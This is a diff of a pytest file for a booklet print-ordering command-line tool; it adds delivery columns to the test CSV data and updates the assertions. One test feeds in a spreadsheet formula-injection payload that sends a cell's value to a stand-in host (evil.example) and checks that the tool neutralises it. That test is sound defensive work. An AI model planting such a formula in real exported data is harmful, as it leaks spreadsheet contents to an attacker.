@@ -118,22 +118,25 @@ def test_print_files_are_reproducible(tmp_path: Path, printed: Path) -> None:
 @pytest.mark.slow
 def test_order_run_and_its_summary(tmp_path: Path) -> None:
     orders = tmp_path / "orders.csv"
-    orders.write_text("code,variant,quantity,ordered_by\nTST-01,standard,10,Ward 4\nTST-01,standard,5,Ann\n")
+    orders.write_text(f"{HEADER}TST-01,standard,10,Ward 4{TO}\nTST-01,standard,5,Ann{TO}\n")
     result = CliRunner().invoke(
         main, ["order", str(orders), "--content", str(FIXTURES), "--out", str(tmp_path / "run")]
     )
     assert result.exit_code == 0, result.output
     run = (tmp_path / "run" / "run.csv").read_text().splitlines()
     pages = len(PdfReader(tmp_path / "run" / "sample-booklet-standard-print.pdf").pages)
-    assert run[1] == f"TST-01,standard,15,{pages},{pages // 4},{15 * pages // 4},Ann; Ward 4"
+    each = f"{pages},{pages // 4}"
+    assert run[1:4] == [
+        f"order,TST-01,standard,5,Ann,Sister Lee,1 High St,01234 567890,{each},{5 * pages // 4},A4",
+        f"order,TST-01,standard,10,Ward 4,Sister Lee,1 High St,01234 567890,{each},{10 * pages // 4},A4",
+        f"booklet total,TST-01,standard,15,,,,,{each},{15 * pages // 4},A4",
+    ]
     assert (tmp_path / "run" / "sample-booklet-standard-imposed.pdf").is_file()
 
 
 def test_bad_order_file_makes_nothing(tmp_path: Path) -> None:
     orders = tmp_path / "orders.csv"
-    orders.write_text(
-        "code,variant,quantity,ordered_by\nTST-01,standard,lots,Ward 4\nXXX-99,standard,1,Ann\n"
-    )
+    orders.write_text(f"{HEADER}TST-01,standard,lots,Ward 4{TO}\nXXX-99,standard,1,Ann{TO}\n")
     result = CliRunner().invoke(
         main, ["order", str(orders), "--content", str(FIXTURES), "--out", str(tmp_path / "run")]
     )
@@ -147,7 +150,7 @@ def test_bad_order_file_makes_nothing(tmp_path: Path) -> None:
 def test_blank_order_form() -> None:
     result = CliRunner().invoke(main, ["order", "--template", "--content", str(FIXTURES)])
     assert result.exit_code == 0
-    assert result.output.splitlines()[0].startswith("code,variant,quantity,ordered_by")
+    assert result.output.splitlines()[0].startswith(HEADER.strip())
     assert "TST-01,large-print,," in result.output
 
 
@@ -209,7 +212,9 @@ def fake_print(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(print_run, "print_ready", made)
 
 
-ORDER = "code,variant,quantity,ordered_by\nTST-01,standard,{},Ward 4\n"
+HEADER = "code,variant,quantity,ordered_by,delivery_name,address,contact\n"
+TO = ",Sister Lee,1 High St,01234 567890"  # where the parcel goes
+ORDER = HEADER + "TST-01,standard,{},Ward 4" + TO + "\n"
 
 
 def order_file(tmp_path: Path, quantity: int = 10, text: str | None = None) -> Path:
@@ -243,9 +248,11 @@ def test_a_second_run_the_same_day_gets_its_own_folder(
     today = datetime.date.today().isoformat()
     runs = tmp_path / "out" / "print-runs"
     assert sorted(p.name for p in runs.iterdir()) == [today, f"{today}-2"]
-    assert (runs / today / "run.csv").read_text().splitlines()[1].startswith("TST-01,standard,10,")
-    assert (runs / f"{today}-2" / "run.csv").read_text().splitlines()[1].startswith("TST-01,standard,3,")
-    assert (runs / today / "summary.txt").read_text().startswith("TST-01 standard: 10 copies")
+    assert (runs / today / "run.csv").read_text().splitlines()[1].startswith("order,TST-01,standard,10,")
+    assert (
+        (runs / f"{today}-2" / "run.csv").read_text().splitlines()[1].startswith("order,TST-01,standard,3,")
+    )
+    assert (runs / today / "summary.txt").read_text().splitlines()[1].startswith("TST-01 standard: 10 copies")
     assert (runs / today / "sample-booklet-standard-imposed.pdf").read_bytes() == b"%PDF-spreads"
 
 
@@ -362,7 +369,7 @@ def test_a_run_whose_folder_cannot_be_made_is_a_clear_error(tmp_path: Path) -> N
 
 def test_unterminated_quote_in_the_order_file_makes_nothing(tmp_path: Path) -> None:
     orders = order_file(
-        tmp_path, text=ORDER.format(5) + 'TST-01,standard,5,"Ward 7\nTST-01,large-print,2,Ann\n'
+        tmp_path, text=ORDER.format(5) + f'TST-01,standard,5,"Ward 7\nTST-01,large-print,2,Ann{TO}\n'
     )
     result = CliRunner().invoke(
         main, ["order", str(orders), "--content", str(FIXTURES), "--out", str(tmp_path / "run")]
@@ -378,13 +385,13 @@ def test_unterminated_quote_in_the_order_file_makes_nothing(tmp_path: Path) -> N
 def test_run_csv_of_a_hostile_name_is_neutralised(tmp_path: Path) -> None:
     name = '=HYPERLINK("http://evil.example/?"&A1,"Ward 7")'
     quoted = name.replace('"', '""')
-    orders = order_file(tmp_path, text=f'code,variant,quantity,ordered_by\nTST-01,standard,2,"{quoted}"\n')
+    orders = order_file(tmp_path, text=f'{HEADER}TST-01,standard,2,"{quoted}"{TO}\n')
     result = CliRunner().invoke(
         main, ["order", str(orders), "--content", str(FIXTURES), "--out", str(tmp_path / "run")]
     )
     assert result.exit_code == 0, result.output
     with (tmp_path / "run" / "run.csv").open(newline="", encoding="utf-8") as handle:
-        assert list(csv.reader(handle))[1][-1] == "'" + name
+        assert list(csv.reader(handle))[1][4] == "'" + name
 
 
 def test_blank_order_form_into_a_missing_folder(tmp_path: Path) -> None:
@@ -405,7 +412,7 @@ def test_blank_order_form_into_a_file(tmp_path: Path) -> None:
         main, ["order", "--template", "--content", str(FIXTURES), "--out", str(target)]
     )
     assert result.exit_code == 0, result.output
-    assert target.read_text(encoding="utf-8").startswith("code,variant,quantity,ordered_by,title\n")
+    assert target.read_text(encoding="utf-8").startswith(f"{HEADER.strip()},title\n")
     result = CliRunner().invoke(
         main, ["order", "--template", "--content", str(FIXTURES), "--out", str(tmp_path)]
     )
